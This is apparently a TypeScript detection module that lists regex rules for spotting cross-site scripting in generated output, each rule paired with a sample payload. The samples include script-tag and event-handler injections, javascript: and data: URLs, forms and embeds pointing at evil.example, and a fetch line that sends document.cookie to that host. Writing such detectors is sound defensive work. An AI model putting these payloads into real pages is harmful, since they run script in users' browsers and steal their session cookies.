import { type BaselineFamily } from '../baseline-family';

const s = String.raw`\s{0,3}`;
/** Quotes may open the code; an ellipsis, a full stop or a closing quote right there shows that only the scheme is named. */
const scheme = `\\s{0,3}["']?\\s{0,5}(?:javascript|vbscript|livescript)\\s{0,3}:\\s{0,3}["'\`]?[^\\s"'\`.…)>]`;
/** An address of another host, or one that holds its own content. */
const foreign = String.raw`\s{0,3}=\s{0,3}["']?[^"'<>\s]{0,60}(?::|[/\\]\s{0,2}[/\\])`;

/**
 * Answers that would run script in a page that shows them unescaped. Active constructs only: the name of an element or an
 * attribute, and a script of the page's own host, stand in many honest explanations and run nothing of the writer's.
 */
export const crossSiteScripting: BaselineFamily = {
  family: 'cross-site-scripting',
  direction: 'output',
  rules: [
    // code right behind the tag; a name in a code span is followed by the backtick that closes the span
    [
      `<${s}script\\b[^<>]{0,100}>\\s{0,20}(?:import\\s|[^<\\s"'\`,.:][^<]{0,150}(?:[a-z0-9_$)\\]]\\s?[(=\`\\[]|[;{}]))`,
      '<script>alert(1)</script>',
    ],
    [
      `<${s}script\\b[^<>]{0,100}>[^<]{0,150}(?:[a-z0-9_$)\\]](?:\\(|\\s?=[^>]|\`[^\`<\\s])|[;{}])[^<]{0,150}</${s}script`,
      '<script>"use strict";alert(1)</script>',
    ],
    [`<${s}script\\b[^<>]{0,100}[\\s/"']src${foreign}`, '<script src=https://evil.example/x.js></script>'],
    [String.raw`<[a-z][^<>]{0,200}[\s/"']on[a-z]{3,20}\s{0,3}=\s{0,3}(?:[^{\s.…]|\.[^.])`, '<svg onload=alert(1)>'],
    [`(?:href|src|action|formaction|data|to|from|values)\\s{0,3}=${scheme}`, '<a href="javascript:alert(1)">'],
    [`(?:\\]|url)\\(${scheme}`, '[open](javascript:alert(1))'],
    [
      String.raw`(?:\]\(|\b(?:src|href|data|action)\s{0,3}=)\s{0,3}["']?\s{0,3}data:(?:text/html|image/svg|application/x|text/xml|text/javascript|,)`,
      '<embed src="data:image/svg+xml;base64,aa">',
    ],
    [
      `<${s}(?:embed|object|applet|frame|portal|base)\\b[^<>]{0,120}[\\s/"'](?:src|data|code|codebase|archive|href)${foreign}`,
      '<object data="https://evil.example/x.swf">',
    ],
    [String.raw`<\s{0,3}iframe\b[^>]{0,200}(?:srcdoc\s{0,3}=|javascript:|data:)`, '<iframe srcdoc="x">'],
    [
      String.raw`<\s{0,3}form\b[^>]{0,150}\baction\s{0,3}=\s{0,3}["']?\s{0,3}(?:http|//)`,
      '<form action="https://evil.example/collect">',
    ],
    [String.raw`<\s{0,3}(?:button|input)\b[^>]{0,150}\bformaction\s{0,3}=`, '<button formaction=x>'],
    [String.raw`<\s{0,3}link\b[^>]{0,100}\brel\s{0,3}=\s{0,3}["']?import`, '<link rel=import href="x">'],
    [
      String.raw`<\s{0,3}meta\b[^<>]{0,100}(?:refresh[^<>]{0,60}[0-9]\s{0,3}[;,]\s{0,3}[^\s"'>]|[0-9]\s{0,3}[;,]\s{0,3}[^\s"'>][^<>]{0,100}refresh)`,
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    ],
    [
      String.raw`style\s{0,3}=[^>]{0,150}(?:expression\s{0,3}\(|-moz-binding|behavior\s{0,3}:\s{0,3}url)|<\s{0,3}style\b[^<>]{0,60}>[^<]{0,200}(?:@import|url\()\W{0,6}(?:url\W{1,3})?(?:http|//)`,
      '<p style="width:expression(alert(1))">',
    ],
    [
      String.raw`(?:https?://|fetch\s?\(|sendbeacon\s?\(|\.src\s?=|location[a-z.]{0,6}\s?=)[^\n]{0,100}(?:document\.cookie|localstorage)`,
      "fetch('https://evil.example/'+document.cookie)",
    ],
  ],
};
